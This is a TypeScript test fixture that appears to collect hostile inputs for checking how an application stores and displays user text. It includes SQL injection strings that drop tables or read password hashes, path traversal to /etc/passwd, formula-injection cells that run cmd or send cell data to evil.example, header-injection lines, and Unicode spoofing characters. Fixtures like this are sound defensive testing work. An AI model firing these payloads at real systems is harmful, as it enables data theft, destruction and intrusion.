import { drawings, eventHandlers, links, scriptTags, styles, templates } from './hostile-markup.ts'

/**
 * What someone who means harm types into a field, by kind. Everything that could run calls
 * `hostile()`: a browser test defines it, stores these, shows them, and fails when it was ever called.
 * A server test stores them and expects either the same text back or a refusal that names the field.
 */

const queries = [
  "'",
  "' or '1'='1",
  "'; drop table users; --",
  "' union select password_hash from users --",
  "x'; select pg_sleep(5); --",
  '1; update users set is_active = true',
  "\\'; drop table users; --",
  '" or ""="',
  '%',
  '_',
  '%%%%%%%%',
  '\\',
  '\\\\%',
  '$1',
  '{"$ne":null}',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '*)(uid=*))(|(uid=*',
] as const

/** A sheet program would work these out when the export is opened: exports put an apostrophe before them. */
const formulas = [
  '=1+1',
  '=cmd|"/c calc"!A0',
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '=IMPORTXML("https://evil.example","//a")',
  '=WEBSERVICE("https://evil.example")',
  '+1+1',
  '+cmd|"/c calc"!A0',
  '-1+1',
  '-2+3+cmd|"/c calc"!A0',
  '@SUM(1+1)',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '"=1+1"',
  '";=1+1',
  ',=1+1',
  '＝1+1',
  '=1+1;<script>hostile()</script>',
  'DDE("cmd";"/c calc";"x")',
] as const

/** Signs that hide, turn around, pile up or cannot be stored. */
const unicodeTricks = [
  '\u0000',
  'a\u0000b',
  '\u0007bell',
  '\u001b[31mred\u001b[0m',
  '\u007f',
  '\u0085',
  '\u00a0\u00a0\u00a0',
  '\u00ad\u00ad',
  '\u200b',
  'a\u200bb',
  '\u200c\u200d',
  '\u200e\u200f',
  '\u2028line\u2029paragraph',
  '\u202egnp.exe',
  '\u202a\u202b\u202c\u202d',
  '\u2066isolated\u2069',
  '\u2060word joiner',
  '\ufeffbyte order',
  '\ufffe\uffff',
  '\ufffd',
  '\ud800',
  '\udfff',
  'a\ud83d',
  '\udb40\udc41\udb40\udc42',
  'Z\u0351\u0361\u0321\u0359a\u0300\u0301\u0302\u0303\u0304\u0305l\u0306\u0307\u0308g\u0309\u030ao',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '👩‍👩‍👧‍👦👨🏿‍🚀🏳️‍🌈',
  '🇺🇸🇺',
  'ﷺ﷽',
  '𒐫𒈙',
  'ІvаnPеtrоv',
  'аdа@wbc.example',
  'Ａｄａ',
  'İıſK',
  'ß→SS',
  'ÅÅÅ',
  'الأمريكية',
  'עברית\u200f!',
  '田中さん',
  '\u0e33\u0e33\u0e33',
] as const

/** Line ends in one-line fields: headers of mails and answers, rows of logs and of CSV files. */
const lineEnds = [
  'x\r\nBcc: everyone@evil.example',
  'x\nBcc: everyone@evil.example',
  'x\r\n\r\n<script>hostile()</script>',
  'x%0d%0aSet-Cookie: a=b',
  'x\r\nLocation: https://evil.example',
  'x\u2028Bcc: everyone@evil.example',
  'x\n{"level":50,"msg":"forged"}',
  'x\r\n"y","z"',
] as const

/** Far more than any field takes. */
const huge = [
  'x'.repeat(1_000),
  'x'.repeat(10_000),
  'x'.repeat(250_000),
  ' '.repeat(10_000),
  '\n'.repeat(10_000),
  '<b>'.repeat(10_000),
  '<div>'.repeat(5_000),
  '😀'.repeat(10_000),
  'e\u0301'.repeat(10_000),
  '('.repeat(10_000),
  `${'a'.repeat(5_000)}@${'b'.repeat(5_000)}`,
  '9'.repeat(10_000),
] as const

/** By kind, for tests that treat kinds differently. */
export const hostileInputsByKind = {
  scriptTags,
  eventHandlers,
  links,
  drawings,
  styles,
  templates,
  queries,
  formulas,
  unicodeTricks,
  lineEnds,
  huge,
} as const satisfies Record<string, readonly string[]>

export type HostileKind = keyof typeof hostileInputsByKind

/** All of them. */
export const hostileInputs: readonly string[] = Object.values(hostileInputsByKind).flat()

/** Those that are short enough for a field of this many characters. */
export const hostileInputsUpTo = (max: number): string[] =>
  hostileInputs.filter(({ length }) => length <= max)

/** A text of this many bytes, for a field that takes far fewer: 10 MB by default. */
export const enormousText = (bytes = 10 * 1024 * 1024): string => 'x'.repeat(bytes)
